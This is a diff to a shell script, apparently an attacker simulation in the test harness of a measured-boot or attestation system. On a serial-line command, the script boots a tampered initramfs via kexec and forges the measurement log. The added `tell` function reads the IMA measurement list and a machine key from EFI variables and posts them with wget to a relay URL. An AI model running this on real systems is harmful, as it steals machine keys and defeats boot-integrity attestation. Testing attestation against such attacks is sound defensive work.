@@ -1,10 +1,14 @@
 #!/bin/sh
 # Says on the console what root can load for a kexec: KILN-THIEF <what> <detail>. Told so on the serial line, it goes by kexec
-# into the release's own kernel, with the release's own initramfs and one file more: `steal` as it is; `hide` after the kernel has
-# measured that as a module. `twice` does the same behind a load of the release's own, and stays. At its start it forges the log.
+# into the release's own kernel, with the release's own initramfs and one file more: `steal URL` as it is; `hide URL` after the kernel
+# has measured that as a module. Before it goes it says what the kernel has measured, as the agent would, to the relay at URL, and
+# hands over the machine's key, which root can read. `twice` does the same as `hide` behind a load of the release's own, and stays.
+# At its start it forges the log.
 
 place=/run/kiln-thief
 lists=/sys/kernel/security/ima/ascii_runtime_measurements
+measured=/sys/kernel/security/ima/binary_runtime_measurements
+key=/sys/firmware/efi/efivars/KilnKey-6b696c6e-0000-4000-8000-6b696c6e0001
 
 say() {
     echo "KILN-THIEF $*" >/dev/console
@@ -24,6 +28,18 @@ load() {
 jump() {
     say goes "the kernel takes it"
     kexec -e
+}
+
+digits() {
+    od -An -v -tx1 "$1" | tr -d ' \n'
+    echo
+}
+
+# As the agent's last word before it goes: from here on no module is loaded, so that the list stays as it is.
+tell() {
+    echo 1 >/proc/sys/kernel/modules_disabled
+    { cat /proc/sys/kernel/random/boot_id && digits "$measured" && digits "$key"; } >"$place/word"
+    busybox wget -q -O /dev/null --post-file="$place/word" "$1"
 }
 
 # The kernel refuses it as a module, and has measured it by then.
@@ -56,22 +72,27 @@ cp "$place/initramfs" "$place/foreign"
 echo "not the site's" >"$place/more/kiln/foreign"
 truncate -s %4 "$place/foreign"
 (cd "$place/more" && find kiln | busybox cpio -o -H newc 2>/dev/null) >>"$place/foreign"
+say foreign "$(sha256sum <"$place/foreign" | cut -c 1-64)"
 # Open before anybody is told, so that no word is lost.
 exec 3</dev/ttyS0
 say ready "$(wc -c <"$place/kexec_kernel") and $(wc -c <"$place/initramfs") bytes"
 
 while true; do
     # Its end is a hang-up of the line.
-    read -r word <&3 || { sleep 1; exec 3</dev/ttyS0; continue; }
+    read -r word relay <&3 || { sleep 1; exec 3</dev/ttyS0; continue; }
     case "$word" in
     steal)
-        if message=$(load "$place/foreign"); then jump; else say fail "$message"; fi
+        if message=$(load "$place/foreign"); then
+            if tell "$relay"; then jump; else say fail "$relay does not hear it"; fi
+        else
+            say fail "$message"
+        fi
         ;;
     hide)
         hide
         if message=$(load "$place/foreign"); then
             say loaded "listed $(grep -c "$place/foreign" "$lists") time"
-            jump
+            if tell "$relay"; then jump; else say fail "$relay does not hear it"; fi
         else
             say fail "$message"
         fi
